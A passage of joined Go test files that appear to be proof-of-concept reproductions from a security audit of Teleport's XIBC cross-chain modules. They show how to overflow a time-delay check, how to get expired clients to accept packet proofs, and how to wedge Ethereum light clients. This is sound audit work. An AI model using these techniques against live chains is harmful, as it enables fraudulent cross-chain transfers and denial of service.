		SrcChain: suite.chainA.ChainID, DstChain: suite.chainB.ChainID, Sequence: 1, Sender: strings.ToLower(suite.chainA.SenderAddress.String()),
		TransferData: transferDataAbi, CallData: []byte(""), CallbackAddress: common.BigToAddress(big.NewInt(0)).String(), FeeOption: 0,
	}
	committedMsg := "callee reverted: \xff\xfe"
	ack := packettypes.NewAcknowledgement(1, []byte(""), committedMsg, strings.ToLower(suite.chainB.SenderAcc.String()), 0)
	ackBz, err := ack.ABIPack()
	suite.Require().NoError(err)

	// B (the destination) commits to sha256(ackBz); A verifies the proof of exactly these bytes
	suite.Require().NoError(pathAToB.EndpointB.WriteAcknowledgement(ackBz, &packet))
	suite.Require().NoError(pathAToB.EndpointA.AcknowledgePacket(packet, ackBz))

	got := suite.GetAck(suite.chainA, suite.chainB.ChainID, 1) // what the packet contract received from the Go side
	gotBz, err := got.ABIPack()
	suite.Require().NoError(err)

	if packetLossy && got.Message != committedMsg && !bytes.Equal(packettypes.CommitAcknowledgement(gotBz), packettypes.CommitAcknowledgement(ackBz)) {
		fmt.Printf("REPLAY-CONFIRMED: ABI decoding is lossy for non-UTF-8 strings: ack proven on chain A has message %q but the ack handed to OnAcknowledgePacket has message %q (its hash differs from the verified commitment); packets with sender %q and %q both decode to sender %q and get the same receive-path commitment, which is not the commitment of either\n",
			committedMsg, got.Message, p1.Sender, p2.Sender, d1.Sender)
		return
	}
	fmt.Println("REPLAY-NOT-REPRODUCED: ABI decoding returned the encoded values unchanged")
}
