// Package directory: x/xibc/core/client/keeper   (package keeper_test)
//
// Finding 1: the gRPC query Query/ConsensusStates drops every consensus state whose 16-byte
// big-endian height key contains the byte 0x2F ('/'), e.g. revision height 47 (0x2F), 303 (0x012F),
// 12032 (0x2F00) ... The stored key is therefore NOT read back as the height it was written for.
package keeper_test

import (
	"fmt"
	"testing"
	"time"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/app"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	"github.com/teleport-network/teleport/x/xibc/core/client/types"
)

func TestZZFinding1ConsensusStatesQueryDropsSlashHeights(t *testing.T) {
	a := app.Setup(false, nil)
	ctx := a.BaseApp.NewContext(false, tmproto.Header{Height: 5, ChainID: "teleport_9000-1", Time: time.Now()})
	k := a.XIBCKeeper.ClientKeeper

	const chain = "tendermint-0"
	heights := []uint64{46, 47, 48, 303, 12032}
	for _, h := range heights {
		cs := xibctmtypes.NewConsensusState(time.Unix(int64(1000+h), 0).UTC(), []byte("root"), []byte("nextvalshash"))
		k.SetClientConsensusState(ctx, chain, types.NewHeight(0, h), cs)
	}

	// every single height can be read back directly
	for _, h := range heights {
		if _, ok := k.GetClientConsensusState(ctx, chain, types.NewHeight(0, h)); !ok {
			t.Fatalf("setup: consensus state %d not stored", h)
		}
	}

	res, err := k.ConsensusStates(sdk.WrapSDKContext(ctx), &types.QueryConsensusStatesRequest{ChainName: chain})
	if err != nil {
		t.Fatalf("query failed: %v", err)
	}
	got := map[uint64]bool{}
	for _, c := range res.ConsensusStates {
		got[c.Height.RevisionHeight] = true
	}
	var missing []uint64
	for _, h := range heights {
		if !got[h] {
			missing = append(missing, h)
		}
	}
	if len(missing) > 0 {
		fmt.Printf("REPLAY-CONFIRMED: Query/ConsensusStates returned %d of %d stored consensus states; heights %v (big-endian key contains byte 0x2F) are silently dropped although GetClientConsensusState finds them\n",
			len(res.ConsensusStates), len(heights), missing)
		return
	}
	fmt.Println("REPLAY-NOT-REPRODUCED: Query/ConsensusStates returned every stored consensus state")
}
