// Package directory: x/xibc/core/client/keeper   (package keeper_test)
//
// Outside the letter of C07/C08 but in x/xibc/core/client/keeper: the gRPC query ConsensusStates filters
// "metadata" keys with strings.Contains(key, "/") although the key tail is the 16 RAW big-endian bytes of the
// height (host.ConsensusStateKey). Every consensus state whose revision number or height contains the byte
// 0x2F ('/') - heights 47, 303, 559, ..., 12032-12287, ... - is silently missing from the answer (and from the
// pagination total). It is the same mistake as the already repaired genesis export (IterateConsensusStates),
// left unrepaired in the query.
package keeper_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/cosmos/cosmos-sdk/baseapp"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/query"

	"github.com/teleport-network/teleport/app"
	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	"github.com/teleport-network/teleport/x/xibc/core/client/types"
	commitmenttypes "github.com/teleport-network/teleport/x/xibc/core/commitment/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

func TestZZFinding3QueryConsensusStatesDropsSlashHeights(t *testing.T) {
	teleport := app.Setup(false, nil)
	now := time.Date(2020, 1, 2, 0, 0, 0, 0, time.UTC)
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Height: 5, ChainID: "teleport_9000-1", Time: now})
	k := teleport.XIBCKeeper.ClientKeeper

	const chainName = "tendermint-0"
	h46, h47, h48 := types.NewHeight(0, 46), types.NewHeight(0, 47), types.NewHeight(0, 48)
	clientState := xibctmtypes.NewClientState(
		"gaiahub-0", xibctmtypes.DefaultTrustLevel, time.Hour*24*14, time.Hour*24*21, time.Second*10,
		h46, commitmenttypes.GetSDKSpecs(), xibctesting.Prefix, 0,
	)
	mk := func(i int) *xibctmtypes.ConsensusState {
		return xibctmtypes.NewConsensusState(now.Add(time.Duration(i)*time.Second), []byte(fmt.Sprintf("hash%d", i)), nil)
	}
	require.NoError(t, k.CreateClient(ctx, chainName, clientState, mk(46)))
	k.SetClientConsensusState(ctx, chainName, h47, mk(47))
	k.SetClientConsensusState(ctx, chainName, h48, mk(48))

	_, stored := k.GetClientConsensusState(ctx, chainName, h47)
	require.True(t, stored)

	queryHelper := baseapp.NewQueryServerTestHelper(ctx, teleport.InterfaceRegistry())
	types.RegisterQueryServer(queryHelper, k)
	queryClient := types.NewQueryClient(queryHelper)

	res, err := queryClient.ConsensusStates(sdk.WrapSDKContext(ctx), &types.QueryConsensusStatesRequest{
		ChainName:  chainName,
		Pagination: &query.PageRequest{Limit: 10, CountTotal: true},
	})
	require.NoError(t, err)

	var got []string
	has47 := false
	for _, cs := range res.ConsensusStates {
		got = append(got, cs.Height.String())
		if cs.Height.EQ(h47) {
			has47 = true
		}
	}
	if !has47 && len(res.ConsensusStates) == 2 {
		fmt.Printf("REPLAY-CONFIRMED: consensus states stored at 0-46, 0-47, 0-48 but Query/ConsensusStates returned %v (total=%d): height 0-47 (0x2F) is dropped\n", got, res.Pagination.Total)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: Query/ConsensusStates returned %v (total=%d)\n", got, res.Pagination.Total)
	}
}
