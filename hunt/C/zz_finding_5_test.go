// Package directory: x/xibc/clients/light-clients/tendermint/types   (package types_test)
//
// ClientKeeper.UpgradeClient stores the new Tendermint client state and its consensus state, but the Tendermint
// ClientState.UpgradeState is an empty function: unlike Initialize (CreateClient / ToggleClient) and unlike
// CheckHeaderAndUpdateState it writes neither the processed time nor the iteration key of the height. The consensus
// state installed by governance is therefore (a) unusable for packet proofs - even with TimeDelay 0 every proof at
// that height fails with "processed time not found" although the height is stored and is the client's latest - and
// (b) invisible to pruning. If the height had been stored before, the OLD processed time is silently reused for
// the new consensus state.
package types_test

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

func TestZZFinding5UpgradeClientWithoutMetadata(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	chainB := coordinator.GetChain(xibctesting.GetChainID(1))
	coordinator.CommitNBlocks(chainA, 2)
	coordinator.CommitNBlocks(chainB, 2)
	path := xibctesting.NewPath(chainA, chainB)
	coordinator.SetupClients(path)

	// chain A commits a packet (no client update on B: the endpoint helper is not used on purpose)
	packet := packettypes.NewPacket(path.EndpointA.ChainName, path.EndpointB.ChainName, 1, "sender", []byte("mock transfer"), []byte("mock rcc"), "", 0)
	require.NoError(t, chainA.App.XIBCKeeper.PacketKeeper.SendPacket(chainA.GetContext(), packet))
	coordinator.CommitBlock(chainA)
	coordinator.CommitBlock(chainA)

	// governance upgrades the client of chain A on chain B to chain A's last header
	old := path.EndpointB.GetClientState().(*types.ClientState)
	newHeight := chainA.LastHeader.GetHeight().(clienttypes.Height)
	newClientState := *old
	newClientState.LatestHeight = newHeight
	newConsensusState := chainA.LastHeader.ConsensusState()
	proposal, err := clienttypes.NewUpgradeClientProposal("t", "d", path.EndpointA.ChainName, &newClientState, newConsensusState)
	require.NoError(t, err)
	require.NoError(t, proposal.ValidateBasic())
	ctx := chainB.GetContext()
	_, err = chainB.App.XIBCKeeper.ClientKeeper.HandleUpgradeClient(ctx, proposal)
	require.NoError(t, err)

	store := path.EndpointB.ClientStore()
	cs := path.EndpointB.GetClientState().(*types.ClientState)
	require.Equal(t, newHeight, cs.LatestHeight)
	_, stored := chainB.App.XIBCKeeper.ClientKeeper.GetClientConsensusState(ctx, path.EndpointA.ChainName, newHeight)
	require.True(t, stored)
	_, hasTime := types.GetProcessedTime(store, newHeight)
	hasIter := types.GetIterationKey(store, newHeight) != nil

	// a correct proof of the packet commitment at the upgraded height
	packetKey := host.PacketCommitmentKey(packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence())
	proof, _ := chainA.QueryProofAtHeight(packetKey, int64(newHeight.RevisionHeight))
	commitment, err := packettypes.CommitPacket(packet)
	require.NoError(t, err)
	errVerify := cs.VerifyPacketCommitment(ctx, store, chainB.Codec, newHeight, proof,
		packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence(), commitment)

	// control: the very same proof verifies once the metadata exists
	cctx, _ := ctx.CacheContext()
	cstore := chainB.App.XIBCKeeper.ClientKeeper.ClientStore(cctx, path.EndpointA.ChainName)
	types.SetProcessedTime(cstore, newHeight, uint64(cctx.BlockTime().UnixNano()))
	errControl := cs.VerifyPacketCommitment(cctx, cstore, chainB.Codec, newHeight, proof,
		packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence(), commitment)

	if !hasTime && !hasIter && errVerify != nil && errControl == nil {
		fmt.Printf("REPLAY-CONFIRMED: after UpgradeClient to %s (TimeDelay=%d) processedTime present=%v iterationKey present=%v; a valid commitment proof at that height is refused: %v (accepted once the processed time is written)\n",
			newHeight, cs.TimeDelay, hasTime, hasIter, errVerify)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: hasTime=%v hasIter=%v errVerify=%v errControl=%v\n", hasTime, hasIter, errVerify, errControl)
	}
}
