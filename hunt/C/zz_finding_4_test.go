// Package directory: x/xibc/clients/light-clients/tendermint/types   (package types_test)
//
// Tendermint ExportMetadata (genesis.go) exports only the "/processedTime" records. The iteration keys
// ("iterateConsensusStates<rev><height>") that CheckHeaderAndUpdateState walks to find and prune the earliest expired
// consensus state are not exported (ibc-go exports them), and InitGenesis does not rebuild them. After a genesis
// export / import every consensus state that existed before the export is invisible to pruning for ever: expired
// consensus states (and their processed times) stay in the store and - see finding 2 - keep honouring proofs.
package types_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	xibcclient "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// returns which of the two oldest consensus states are still stored after they expired and two more headers were accepted
func zzFinding4Run(t *testing.T, roundTrip bool) (h0Kept, h1Kept bool, iterKeyAfterImport bool) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	chainB := coordinator.GetChain(xibctesting.GetChainID(1))
	coordinator.CommitNBlocks(chainA, 2)
	coordinator.CommitNBlocks(chainB, 2)
	path := xibctesting.NewPath(chainA, chainB)
	coordinator.SetupClients(path)

	latest := func() exported.Height { return path.EndpointB.GetClientState().GetLatestHeight() }
	h0 := latest()
	require.NoError(t, path.EndpointB.UpdateClient())
	h1 := latest()
	require.True(t, h1.GT(h0))

	iterKeyAfterImport = true
	if roundTrip {
		// genesis export, wipe, genesis import (through JSON, as a restart would do)
		ctx := chainB.GetContext()
		k := chainB.App.XIBCKeeper.ClientKeeper
		gs := xibcclient.ExportGenesis(ctx, k)
		bz := chainB.App.AppCodec().MustMarshalJSON(&gs)

		store := ctx.KVStore(chainB.App.GetKey("xibc"))
		var keys [][]byte
		it := sdk.KVStorePrefixIterator(store, []byte("clients/"))
		for ; it.Valid(); it.Next() {
			keys = append(keys, it.Key())
		}
		it.Close()
		for _, key := range keys {
			store.Delete(key)
		}
		_, found := k.GetClientState(ctx, path.EndpointA.ChainName)
		require.False(t, found)

		var gs2 clienttypes.GenesisState
		chainB.App.AppCodec().MustUnmarshalJSON(bz, &gs2)
		require.NoError(t, gs2.Validate())
		xibcclient.InitGenesis(ctx, k, gs2)

		cstore := path.EndpointB.ClientStore()
		_, okCons := k.GetClientConsensusState(ctx, path.EndpointA.ChainName, h0)
		_, okTime := types.GetProcessedTime(cstore, h0)
		require.True(t, okCons && okTime) // consensus state and processed time survive ...
		iterKeyAfterImport = types.GetIterationKey(cstore, h0) != nil
		coordinator.CommitBlock(chainB)
	}

	// almost a trusting period passes, the client is refreshed just in time (h2) ...
	coordinator.IncrementTimeBy(xibctesting.TrustingPeriod - 30*time.Second)
	require.NoError(t, path.EndpointB.UpdateClient())
	// ... and now h0 and h1 are expired, h2 is not
	coordinator.IncrementTimeBy(2 * time.Minute)
	require.NoError(t, path.EndpointB.UpdateClient()) // prunes the earliest expired consensus state
	require.NoError(t, path.EndpointB.UpdateClient()) // prunes the next one

	_, h0Kept = chainB.GetConsensusState(path.EndpointA.ChainName, h0)
	_, h1Kept = chainB.GetConsensusState(path.EndpointA.ChainName, h1)
	return
}

func TestZZFinding4GenesisDropsIterationKeys(t *testing.T) {
	ctrl0, ctrl1, _ := zzFinding4Run(t, false)
	kept0, kept1, iterKey := zzFinding4Run(t, true)
	if !ctrl0 && !ctrl1 && kept0 && kept1 && !iterKey {
		fmt.Printf("REPLAY-CONFIRMED: without restart the two expired consensus states are pruned (kept: %v %v); after genesis export/import their iteration keys are gone (present: %v) and both expired consensus states survive every later update (kept: %v %v)\n",
			ctrl0, ctrl1, iterKey, kept0, kept1)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: control kept=%v,%v roundtrip kept=%v,%v iterationKeyPresentAfterImport=%v\n", ctrl0, ctrl1, kept0, kept1, iterKey)
	}
}
