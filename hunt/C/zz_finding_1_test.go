// Package directory: x/xibc/clients/light-clients/tendermint/types   (package types_test)
//
// C07 - "proofs are honoured ... only after the configured delay since that height was processed".
// verifyDelayPeriodPassed computes  validTime := processedTime + delayPeriod  in uint64 without an
// overflow check. processedTime is a Unix time in nanoseconds (~1.6e18), so every configured
// TimeDelay above 2^64-1-processedTime (~1.68e19 ns) wraps around to a validTime in the past and the
// proof is honoured immediately, in the very block in which the header was processed.
package types_test

import (
	"fmt"
	"math"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

func TestZZFinding1DelayOverflow(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	chainB := coordinator.GetChain(xibctesting.GetChainID(1))
	coordinator.CommitNBlocks(chainA, 2)
	coordinator.CommitNBlocks(chainB, 2)

	path := xibctesting.NewPath(chainA, chainB)
	coordinator.SetupClients(path)

	// chain A sends a packet; the helper commits it and updates A's client on chain B
	packet := packettypes.NewPacket(path.EndpointA.ChainName, path.EndpointB.ChainName, 1, "sender", []byte("mock transfer"), []byte("mock rcc"), "", 0)
	require.NoError(t, path.EndpointA.SendPacket(packet))

	packetKey := host.PacketCommitmentKey(packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence())
	proof, proofHeight := chainA.QueryProof(packetKey)
	commitment, err := packettypes.CommitPacket(packet)
	require.NoError(t, err)

	clientState := path.EndpointB.GetClientState().(*types.ClientState)
	store := path.EndpointB.ClientStore()
	ctx := chainB.GetContext()

	processed, ok := types.GetProcessedTime(store, proofHeight)
	require.True(t, ok)
	now := uint64(ctx.BlockTime().UnixNano())

	verify := func(delay uint64) error {
		cs := *clientState
		cs.TimeDelay = delay
		return cs.VerifyPacketCommitment(ctx, store, chainB.Codec, proofHeight, proof,
			packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence(), commitment)
	}

	// sanity: no delay -> accepted; one hour of delay, a few seconds after processing -> refused
	require.NoError(t, verify(0))
	errHour := verify(uint64(time.Hour))
	require.Error(t, errHour)

	// the largest delay that can be configured ("never"): must be refused, too
	errMax := verify(math.MaxUint64)
	// smallest wrapping delay
	errWrap := verify(math.MaxUint64 - processed + 1)

	// the same through the packet keeper, with the client state as governance would have stored it
	cs := *clientState
	cs.TimeDelay = math.MaxUint64
	require.NoError(t, cs.Validate()) // the proposal's ValidateBasic accepts it
	chainB.App.XIBCKeeper.ClientKeeper.SetClientState(ctx, path.EndpointA.ChainName, &cs)
	packetBytes, err := packet.ABIPack()
	require.NoError(t, err)
	msg := packettypes.NewMsgRecvPacket(packetBytes, proof, proofHeight, chainB.SenderAcc)
	errKeeper := chainB.App.XIBCKeeper.PacketKeeper.RecvPacket(ctx, msg)
	_, receipt := chainB.App.XIBCKeeper.PacketKeeper.GetPacketReceipt(ctx, packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence())

	if errMax == nil && errWrap == nil && errKeeper == nil && receipt {
		fmt.Printf("REPLAY-CONFIRMED: tendermint client with TimeDelay=%d ns (2^64-1) honoured a packet commitment proof %d ns after the height was processed (processed=%d now=%d; a delay of 1h was refused: %v); processedTime+delay wrapped around; keeper RecvPacket wrote the receipt\n",
			uint64(math.MaxUint64), now-processed, processed, now, errHour != nil)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: errMax=%v errWrap=%v errKeeper=%v receipt=%v\n", errMax, errWrap, errKeeper, receipt)
	}
}
