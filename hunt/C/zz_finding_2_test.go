// Package directory: x/xibc/clients/light-clients/tendermint/types   (package types_test)
//
// C07 - "an expired client accepts nothing".
// Only ClientKeeper.UpdateClient consults ClientState.Status. The packet keeper (RecvPacket /
// AcknowledgePacket) and the Tendermint Verify* functions never look at the status or at the
// trusting period, so a Tendermint client whose latest consensus state is older than the trusting
// period (Status == Expired, every header refused) still honours packet-commitment proofs.
// exported.ClientState documents the opposite contract: "Only Active clients are allowed to process packets."
package types_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	"github.com/teleport-network/teleport/x/xibc/core/host"
	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

func TestZZFinding2ExpiredClientHonoursProofs(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	chainB := coordinator.GetChain(xibctesting.GetChainID(1))
	coordinator.CommitNBlocks(chainA, 2)
	coordinator.CommitNBlocks(chainB, 2)

	path := xibctesting.NewPath(chainA, chainB)
	coordinator.SetupClients(path)

	packet := packettypes.NewPacket(path.EndpointA.ChainName, path.EndpointB.ChainName, 1, "sender", []byte("mock transfer"), []byte("mock rcc"), "", 0)
	require.NoError(t, path.EndpointA.SendPacket(packet)) // also updates A's client on B

	packetKey := host.PacketCommitmentKey(packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence())
	proof, proofHeight := chainA.QueryProof(packetKey)

	clientState := path.EndpointB.GetClientState().(*types.ClientState)

	// nothing happens for longer than the trusting period: the client of chain A on chain B expires
	coordinator.IncrementTimeBy(clientState.TrustingPeriod + time.Hour)
	coordinator.CommitBlock(chainA) // chain A produces a fresh block that a relayer would like to submit
	ctx := chainB.GetContext()

	status := clientState.Status(ctx, path.EndpointB.ClientStore(), chainB.Codec)

	// a header is refused (by the keeper's status check)
	header, err := chainB.ConstructUpdateTMClientHeader(chainA, path.EndpointA.ChainName)
	require.NoError(t, err)
	cctx, _ := ctx.CacheContext()
	errUpdate := chainB.App.XIBCKeeper.ClientKeeper.UpdateClient(cctx, path.EndpointA.ChainName, header)

	// ... but a packet proved against the expired client is received
	packetBytes, err := packet.ABIPack()
	require.NoError(t, err)
	msg := packettypes.NewMsgRecvPacket(packetBytes, proof, proofHeight, chainB.SenderAcc)
	errRecv := chainB.App.XIBCKeeper.PacketKeeper.RecvPacket(ctx, msg)
	_, receipt := chainB.App.XIBCKeeper.PacketKeeper.GetPacketReceipt(ctx, packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence())

	if status == exported.Expired && errUpdate != nil && errRecv == nil && receipt {
		fmt.Printf("REPLAY-CONFIRMED: tendermint client status=%s (header update refused: %v) yet PacketKeeper.RecvPacket accepted the commitment proof at height %s and wrote the receipt\n",
			status, errUpdate != nil, proofHeight)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: status=%s errUpdate=%v errRecv=%v receipt=%v\n", status, errUpdate, errRecv, receipt)
	}
}
