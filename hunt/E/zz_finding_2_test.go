// Package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
//
// Finding 2 (C10): every accepted header becomes the head, also a header that is OLDER than the trusting period.
// Re-submitting a still stored ancestor (no mining needed: the header was accepted before) moves the head back to
// a header whose consensus state is already expired; Status() then reports Expired and every further update -
// including the valid child of the previous head - is refused: the client is wedged.
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

func zzF2Header(parent *xibcethtypes.Header, number uint64, ts uint64, root byte, extra string) xibcethtypes.Header {
	h := xibcethtypes.EthHeader{
		Root:       common.BytesToHash(bytes.Repeat([]byte{root}, 32)),
		Difficulty: big.NewInt(2),
		Number:     new(big.Int).SetUint64(number),
		GasLimit:   30000000,
		GasUsed:    15000000,
		Time:       ts,
		Extra:      []byte(extra),
		BaseFee:    big.NewInt(1000000000),
	}
	if parent != nil {
		h.ParentHash = parent.Hash()
	}
	return h.ToHeader()
}

func TestZZFinding2ExpiredHeadWedge(t *testing.T) {
	teleport := app.Setup(false, nil)
	t0 := time.Now().Add(-3 * time.Hour)
	T0 := uint64(t0.Unix())
	at := func(sec int64) time.Time { return t0.Add(time.Duration(sec) * time.Second) }
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: at(20)})
	ck := teleport.XIBCKeeper.ClientKeeper
	const chain = "eth"

	g := zzF2Header(nil, 100, T0, 0x01, "G")
	m1 := zzF2Header(&g, 101, T0+10, 0x11, "M1")
	m2 := zzF2Header(&m1, 102, T0+900, 0x12, "M2")
	m3 := zzF2Header(&m2, 103, T0+1800, 0x13, "M3")
	m4 := zzF2Header(&m3, 104, T0+1900, 0x14, "M4")

	clientState := exported.ClientState(&xibcethtypes.ClientState{
		Header: g, ChainId: 4, ContractAddress: []byte("0x00"), TrustingPeriod: 1000, BlockDelay: 1,
	})
	consensusState := exported.ConsensusState(&xibcethtypes.ConsensusState{Timestamp: g.Time, Height: g.Height, Root: g.Root})
	if err := ck.CreateClient(ctx, chain, clientState, consensusState); err != nil {
		t.Fatalf("create: %v", err)
	}
	steps := []struct {
		name string
		h    xibcethtypes.Header
		sec  int64
	}{{"M1", m1, 20}, {"M2", m2, 900}, {"M3", m3, 1800}, {"M2 (re-submitted)", m2, 1901}}
	for _, st := range steps {
		h := st.h
		if err := ck.UpdateClient(ctx.WithBlockTime(at(st.sec)), chain, &h); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: header %s was rejected: %v\n", st.name, err)
			return
		}
	}
	// M4 is a rule-abiding child of the stored header M3 (the head before the re-submission), 1 s old
	err := ck.UpdateClient(ctx.WithBlockTime(at(1901)), chain, &m4)
	if err == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the child of M3 is still accepted\n")
		return
	}
	cs, _ := ck.GetClientState(ctx, chain)
	status := cs.Status(ctx.WithBlockTime(at(1901)), ck.ClientStore(ctx, chain), teleport.AppCodec())
	fmt.Printf("REPLAY-CONFIRMED: after re-submitting the stored ancestor M2 (accepted, became head at %s) the client status is %s and the valid child M4 of the stored header M3 is refused: %v\n",
		cs.GetLatestHeight(), status, err)
}
