// Package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
//
// Finding 3 (C10): the revision number of Header.Height is not part of the block hash and is never checked, but it is
// part of the consensus-state key, whereas the header index and the "main root" index are keyed by the block number
// only. The same block accepted under two revision numbers yields two consensus states that share ONE main-root entry.
// Pruning the first one deletes the shared entry; when the second one becomes the earliest expired consensus state,
// pruning fails ("Header index not found") at the start of EVERY update: the client is wedged for good.
package types_test

import (
	"bytes"
	"fmt"
	"math/big"
	"testing"
	"time"

	"github.com/ethereum/go-ethereum/common"
	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

func zzF3Header(parent *xibcethtypes.Header, revision, number uint64, ts uint64, root byte, extra string) xibcethtypes.Header {
	h := xibcethtypes.EthHeader{
		Root:       common.BytesToHash(bytes.Repeat([]byte{root}, 32)),
		Difficulty: big.NewInt(2),
		Number:     new(big.Int).SetUint64(number),
		GasLimit:   30000000,
		GasUsed:    15000000,
		Time:       ts,
		Extra:      []byte(extra),
		BaseFee:    big.NewInt(1000000000),
	}
	if parent != nil {
		h.ParentHash = parent.Hash()
	}
	res := h.ToHeader()
	res.Height = clienttypes.NewHeight(revision, number)
	return res
}

func TestZZFinding3RevisionNumberPruneWedge(t *testing.T) {
	teleport := app.Setup(false, nil)
	t0 := time.Now().Add(-3 * time.Hour)
	T0 := uint64(t0.Unix())
	at := func(sec int64) time.Time { return t0.Add(time.Duration(sec) * time.Second) }
	ctx := teleport.BaseApp.NewContext(false, tmproto.Header{Time: at(20)})
	ck := teleport.XIBCKeeper.ClientKeeper
	const chain = "eth"

	g := zzF3Header(nil, 0, 100, T0, 0x01, "G")
	m1 := zzF3Header(&g, 0, 101, T0+10, 0x11, "M1")
	m1r := zzF3Header(&g, 1, 101, T0+10, 0x11, "M1") // the same block (same hash), revision number 1
	m2 := zzF3Header(&m1, 1, 102, T0+900, 0x12, "M2")
	m3 := zzF3Header(&m2, 1, 103, T0+1800, 0x13, "M3")
	m4 := zzF3Header(&m3, 1, 104, T0+1801, 0x14, "M4")
	m5 := zzF3Header(&m4, 1, 105, T0+1802, 0x15, "M5")
	m5b := zzF3Header(&m4, 0, 105, T0+1802, 0x15, "M5")
	if m1.Hash() != m1r.Hash() {
		t.Fatalf("hash depends on the revision number")
	}

	clientState := exported.ClientState(&xibcethtypes.ClientState{
		Header: g, ChainId: 4, ContractAddress: []byte("0x00"), TrustingPeriod: 1000, BlockDelay: 1,
	})
	consensusState := exported.ConsensusState(&xibcethtypes.ConsensusState{Timestamp: g.Time, Height: g.Height, Root: g.Root})
	if err := ck.CreateClient(ctx, chain, clientState, consensusState); err != nil {
		t.Fatalf("create: %v", err)
	}
	steps := []struct {
		name string
		h    xibcethtypes.Header
		sec  int64
	}{{"M1 as 0-101", m1, 20}, {"M1 as 1-101", m1r, 20}, {"M2", m2, 900}, {"M3", m3, 1800}, {"M4", m4, 1801}}
	for _, st := range steps {
		h := st.h
		if err := ck.UpdateClient(ctx.WithBlockTime(at(st.sec)), chain, &h); err != nil {
			fmt.Printf("REPLAY-NOT-REPRODUCED: header %s was rejected: %v\n", st.name, err)
			return
		}
	}
	// head is M4 (1 s old, client Active); M5 is its rule-abiding child
	cs, _ := ck.GetClientState(ctx, chain)
	status := cs.Status(ctx.WithBlockTime(at(1802)), ck.ClientStore(ctx, chain), teleport.AppCodec())
	err1 := ck.UpdateClient(ctx.WithBlockTime(at(1802)), chain, &m5)
	err2 := ck.UpdateClient(ctx.WithBlockTime(at(1803)), chain, &m5b)
	if err1 == nil || err2 == nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: the child of the head is accepted (%v / %v)\n", err1, err2)
		return
	}
	fmt.Printf("REPLAY-CONFIRMED: client status %s, head %s, but the valid child M5 of the head is refused under either revision number: %v\n", status, cs.GetLatestHeight(), err1)
}
