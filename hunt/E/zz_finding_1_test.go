// Package directory: x/xibc/clients/light-clients/eth/types   (package types_test)
//
